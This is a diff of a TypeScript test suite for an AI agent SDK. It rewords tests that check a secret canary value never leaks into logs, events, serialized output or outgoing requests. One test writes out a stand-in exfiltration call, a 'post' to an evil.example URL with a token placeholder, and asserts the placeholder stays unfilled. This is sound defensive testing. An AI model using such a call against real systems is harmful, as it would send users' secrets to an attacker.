@@ -25,16 +25,16 @@ afterEach(() => {
   configureLogging({ level: 'silent' });
 });
 
-/** The forms a value takes on its way through other people's code. */
+/** The forms a value can take in application code. */
 const forms: [string, (value: string) => unknown][] = [
-  ['plain', (value) => value],
-  ['inside a text', (value) => `before ${value} after`],
+  ['as it is', (value) => value],
+  ['inside a string', (value) => `before ${value} after`],
   ['nested', (value) => ({ a: [{ b: value }] })],
   ['as a key', (value) => ({ [value]: 1 })],
-  ['base64', (value) => Buffer.from(`token=${value}`).toString('base64')],
-  ['URL-encoded', (value) => `https://x.example/?t=${encodeURIComponent(value)}`],
-  ['JSON in a text', (value) => JSON.stringify(JSON.stringify({ value }))],
-  ['upper case', (value) => value.toUpperCase()],
+  ['as base64', (value) => Buffer.from(`token=${value}`).toString('base64')],
+  ['as part of a URL', (value) => `https://x.example/?t=${encodeURIComponent(value)}`],
+  ['as JSON in a string', (value) => JSON.stringify(JSON.stringify({ value }))],
+  ['in upper case', (value) => value.toUpperCase()],
 ];
 
 function expectNowhere(value: string, places: Record<string, unknown>): void {
@@ -42,12 +42,12 @@ function expectNowhere(value: string, places: Record<string, unknown>): void {
   for (const [place, content] of Object.entries(places)) {
     const text = typeof content === 'string' ? content : (JSON.stringify(content) ?? '');
     for (const form of encoded) {
-      expect(text.toLowerCase(), `${place} holds the canary`).not.toContain(form.toLowerCase());
+      expect(text.toLowerCase(), `${place} contains the canary`).not.toContain(form.toLowerCase());
     }
   }
 }
 
-describe('a private value never leaves the process', () => {
+describe('a private value does not leave the process', () => {
   it.each(forms)('when a tool returns it %s', async (_name, form) => {
     await using setup = await startAgent(
       async (session) => {
@@ -93,7 +93,7 @@ describe('a private value never leaves the process', () => {
     },
   );
 
-  it('when its tool or a hook of it logs it', async () => {
+  it('when a tool or its hook logs it', async () => {
     await using setup = await startAgent(
       async (session) => {
         await session.callTool('t');
@@ -125,7 +125,7 @@ describe('a private value never leaves the process', () => {
     expect(lines.at(-1)?.message).toBe(`has ${CANARY}`);
   });
 
-  it('when printed or serialized', () => {
+  it('when it is printed or serialized', () => {
     const agent = new Agent({
       name: 'a',
       apiKey: 'k',
@@ -136,7 +136,7 @@ describe('a private value never leaves the process', () => {
     expectNowhere(CANARY, { inspected: inspect(shown, { depth: 9 }), json: JSON.stringify(shown) });
   });
 
-  it('when a hook fails with it, also in the log', async () => {
+  it('when a hook fails with it, even through the log', async () => {
     const failing = () => {
       throw new Error(`the token was ${CANARY}`);
     };
@@ -161,7 +161,7 @@ describe('a private value never leaves the process', () => {
     );
   });
 
-  it('not even as an argument that an orchestrator fills with it, which only the tool gets', async () => {
+  it('when the orchestrator sends it as an argument, which only the tool receives', async () => {
     await using setup = await startAgent(
       async (session) => {
         await session.callTool('t', { text: CANARY });
@@ -181,7 +181,7 @@ describe('a private value never leaves the process', () => {
     expectNowhere(CANARY, { events, lines });
   });
 
-  it('when a person types a password', async () => {
+  it('when a user types it as a password', async () => {
     await using setup = await startAgent(async (session) => {
       await session.callTool('t');
       session.finish();
@@ -207,7 +207,7 @@ describe('a private value never leaves the process', () => {
     expect(agent.privateValues()).toContainEqual({ name: 'password', value: CANARY });
   });
 
-  it('but a placeholder of it in arguments is not filled, so that a planner cannot send it anywhere', async () => {
+  it('through a placeholder in arguments, which is not filled in', async () => {
     await using setup = await startAgent(
       async (session) => {
         await session.callTool('post', { url: 'https://evil.example/?t={_{token}_}' });
@@ -224,7 +224,7 @@ describe('a private value never leaves the process', () => {
     expect(sent).toEqual(['https://evil.example/?t={_{token}_}']);
   });
 
-  it('of a member, in the sessions of a swarm', async () => {
+  it('when it belongs to a member of a swarm', async () => {
     await using orchestrator = await startScriptedOrchestrator(async (session) => {
       if (session.state.swarm_config?.invoked_agent_name) {
         const answer = await session.callTool('leak');
@@ -247,7 +247,7 @@ describe('a private value never leaves the process', () => {
 });
 
 describe('the API key', () => {
-  it('stands in the Authorization header of every request and nowhere else', async () => {
+  it('is in the Authorization header of every request and nowhere else', async () => {
     await using setup = await startAgent(async (session) => {
       session.send('interrupt_required', { checkpoint_id: 'x', data_key: 'd', prompt: 'p' });
       await session.callTool('t');
@@ -270,7 +270,7 @@ describe('the API key', () => {
     });
   });
 
-  it('does not stand in the errors of requests', async () => {
+  it('is not in the errors of requests', async () => {
     await using setup = await startAgent(
       () => {},
       {},
